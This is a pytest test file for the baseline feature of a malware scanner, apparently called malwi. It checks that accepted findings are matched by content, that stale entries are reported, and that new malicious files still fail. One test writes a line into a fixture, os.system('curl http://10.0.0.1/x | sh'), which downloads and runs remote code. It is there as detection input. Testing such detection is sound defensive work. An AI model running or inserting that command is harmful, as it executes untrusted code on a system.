"""Baselines: reviewed findings accepted by content, so that a scan fails only on new ones.

The trees are copies of the shipped examples (defanged), judged by the shipped model; nothing
here runs what it scans."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from malwi.cli import main
from malwi.engine.baseline import Baseline, fingerprint, occurrence_numbers
from malwi.report.result import FileFinding, ObjectFinding

from .conftest import EXAMPLES, ROOT

SCHEMA = json.loads((ROOT / "data" / "schemas" / "analysis_result_schema.json").read_text())


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """A repository holding one malicious Python package and benign files."""
    root = tmp_path / "repo"
    shutil.copytree(EXAMPLES / "malicious-python", root / "pkg")
    shutil.copytree(EXAMPLES / "benign", root / "lib")
    return root


def scan(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, Any]]:
    capsys.readouterr()
    code = main(["scan", *args, "--format", "json", "--quiet"])
    document = json.loads(capsys.readouterr().out)
    jsonschema.validate(document, SCHEMA)
    return code, document


def create(capsys: pytest.CaptureFixture[str], tree: Path, into: Path) -> dict[str, Any]:
    assert main(["baseline", "create", str(tree), "-o", str(into)]) == 0
    assert "recorded" in capsys.readouterr().err
    return json.loads(into.read_text())


def unit(document: dict[str, Any], name: str) -> dict[str, Any]:
    return next(u for u in document["units"] if u["key"].endswith(name))


def test_a_baseline_accepts_every_reviewed_finding(
    tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, before = scan(capsys, str(tree))
    assert code == 1 and unit(before, "pkg")["verdict"] == "malicious"
    recorded = create(capsys, tree, tmp_path / "baseline.json")
    paths = {entry["path"] for entry in recorded["findings"]}
    # Every carrying object, not only the three a report lists; paths relative to the scan root.
    assert {"pkg/setup.py", "pkg/loader.py", "pkg/stealer.py"} <= paths
    assert {entry["unit"] for entry in recorded["findings"]} == {"pkg"}
    listed = {(f["file"], f["object"]) for f in unit(before, "pkg")["findings"]}
    assert {(str(tree / e["path"]), e["object"]) for e in recorded["findings"]} >= listed

    code, after = scan(capsys, str(tree), "--baseline", str(tmp_path / "baseline.json"))
    assert code == 0
    assert after["verdict"] == "good" and after["malicious"] is False
    accepted = unit(after, "pkg")
    assert accepted["verdict"] == "good"
    assert accepted["baselined"] == {"findings": len(recorded["findings"]), "verdict": "malicious"}
    assert "findings" not in accepted
    assert after["baseline"]["accepted_findings"] == len(recorded["findings"])
    assert after["baseline"]["accepted_units"] == 1 and after["baseline"]["stale"] == []
    # The model's score is kept: the unit was accepted, not rescored.
    assert accepted["maliciousness"] == unit(before, "pkg")["maliciousness"]


def test_a_new_malicious_file_still_fails_and_is_the_only_finding_listed(
    tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    create(capsys, tree, tmp_path / "baseline.json")
    (tree / "pkg" / "update.py").write_text(
        (EXAMPLES / "malicious-python" / "stealer.py").read_text() + "\nx = 1\n"
    )
    code, document = scan(capsys, str(tree), "--baseline", str(tmp_path / "baseline.json"))
    assert code == 1 and document["verdict"] == "malicious"
    flagged = unit(document, "pkg")
    assert flagged["verdict"] == "malicious" and "baselined" not in flagged
    assert {Path(f["file"]).name for f in flagged["findings"]} == {"update.py"}
    assert document["baseline"]["accepted_findings"] >= 3 and document["baseline"]["accepted_units"] == 0


def test_findings_are_matched_by_content_not_by_line(
    tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    create(capsys, tree, tmp_path / "baseline.json")
    loader = tree / "pkg" / "loader.py"
    loader.write_text("# reviewed by the security team\n\n\n" + loader.read_text())
    code, document = scan(capsys, str(tree), "--baseline", str(tmp_path / "baseline.json"))
    assert code == 0 and unit(document, "pkg")["verdict"] == "good"

    # The object itself changed: a new finding, and its old entry is stale.
    loader.write_text(loader.read_text() + "import os\nos.system('curl http://10.0.0.1/x | sh')\n")
    code, document = scan(capsys, str(tree), "--baseline", str(tmp_path / "baseline.json"))
    assert code == 1
    assert [Path(f["file"]).name for f in unit(document, "pkg")["findings"]] == ["loader.py"]
    assert [(e["path"], e["object"]) for e in document["baseline"]["stale"]] == [
        ("pkg/loader.py", "<module>")
    ]


def test_stale_entries_are_reported_in_text(
    tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    create(capsys, tree, tmp_path / "baseline.json")
    (tree / "pkg" / "stealer.py").unlink()
    capsys.readouterr()
    code = main(["scan", str(tree), "--baseline", str(tmp_path / "baseline.json")])
    out = capsys.readouterr().out
    assert code == 0
    assert "accepted" in out and "stale (not found): pkg/stealer.py" in out
    assert out.splitlines()[-1].startswith("=> good")


def test_accepted_findings_never_hide_unscanned_code(
    tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    create(capsys, tree, tmp_path / "baseline.json")
    (tree / "pkg" / "hidden.pyc").write_bytes(b"\x6f\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(40))
    code, document = scan(capsys, str(tree), "--baseline", str(tmp_path / "baseline.json"))
    pkg = unit(document, "pkg")
    assert pkg["verdict"] == "incomplete" and pkg["baselined"]["verdict"] == "malicious"
    assert any(item["path"].endswith("hidden.pyc") for item in pkg["unscanned"])
    assert code == 3


def test_a_baseline_is_used_only_when_named(
    tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A package cannot accept its own findings by carrying a baseline file."""
    create(capsys, tree, tree / "pkg" / ".malwi-baseline.json")
    code, document = scan(capsys, str(tree))
    assert code == 1 and unit(document, "pkg")["verdict"] == "malicious" and "baseline" not in document


def test_the_baseline_holds_from_another_working_directory(
    tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    create(capsys, tree, tmp_path / "baseline.json")
    monkeypatch.chdir(tree.parent)
    code, document = scan(capsys, "repo", "--baseline", str(tmp_path / "baseline.json"))
    assert code == 0 and document["baseline"]["stale"] == []


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("{not json", "not JSON"),
        ('{"format": "bandit"}', 'no "format"'),
        ('{"format": "malwi-baseline", "version": 9, "findings": []}', "version 9"),
        ('{"format": "malwi-baseline", "version": 1, "findings": [{"path": 3}]}', "finding 0"),
    ],
)
def test_a_bad_baseline_is_one_line_naming_it(
    tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], content: str, message: str
) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text(content)
    capsys.readouterr()
    assert main(["scan", str(tree), "--baseline", str(bad)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and str(bad) in err and message in err


def test_a_folder_or_missing_file_is_not_a_baseline(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    assert main(["scan", str(tree), "--baseline", str(tree)]) == 2
    assert "not a regular file" in capsys.readouterr().err


def test_dependency_files_take_no_baseline(
    tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    requirements = tmp_path / "requirements.txt"
    requirements.write_text("six==1.16.0\n")
    (tmp_path / "b.json").write_text('{"format": "malwi-baseline", "version": 1, "findings": []}')
    capsys.readouterr()
    assert main(["scan", "-r", str(requirements), "--baseline", str(tmp_path / "b.json")]) == 2
    assert "not with --requirements" in capsys.readouterr().err


def _object(name: str, lines: tuple[int, int], hash: str) -> ObjectFinding:
    return ObjectFinding(name, "function", lines, 0.9, [], "", hash)


def test_identical_objects_of_one_file_are_numbered_in_line_order() -> None:
    file = FileFinding("a.py", "python")
    late, early, other = _object("f", (20, 22), "h"), _object("f", (3, 5), "h"), _object("g", (9, 9), "k")
    file.objects = [late, other, early]
    numbers = occurrence_numbers([file])
    assert [fingerprint(o, numbers) for o in (early, late, other)] == ["h:1", "h:2", "k:1"]


def test_a_baseline_keeps_what_it_read() -> None:
    baseline = Baseline([{"path": "a.py", "fingerprint": "h:1", "object": "f"}], origin="b.json")
    assert baseline.keys == {("a.py", "h:1"): {"path": "a.py", "fingerprint": "h:1", "object": "f"}}


def test_sarif_keeps_accepted_findings_as_suppressed_results(
    tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from .test_sarif import validate

    recorded = create(capsys, tree, tmp_path / "baseline.json")
    (tree / "pkg" / "update.py").write_text(
        (EXAMPLES / "malicious-python" / "stealer.py").read_text() + "\nx = 1\n"
    )
    capsys.readouterr()
    code = main(["scan", str(tree), "--baseline", str(tmp_path / "baseline.json"), "--format", "sarif", "-q"])
    log = validate(capsys.readouterr().out)
    run = log["runs"][0]
    suppressed = [r for r in run["results"] if r.get("suppressions")]
    new = [r for r in run["results"] if not r.get("suppressions")]
    assert code == 1
    assert len(suppressed) == len(recorded["findings"])
    assert {r["suppressions"][0]["status"] for r in suppressed} == {"accepted"}
    assert all(r["level"] == "error" for r in suppressed)
    assert {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in new} == {
        "pkg/update.py"
    }
    assert run["properties"]["baseline"]["accepted_findings"] == len(recorded["findings"])
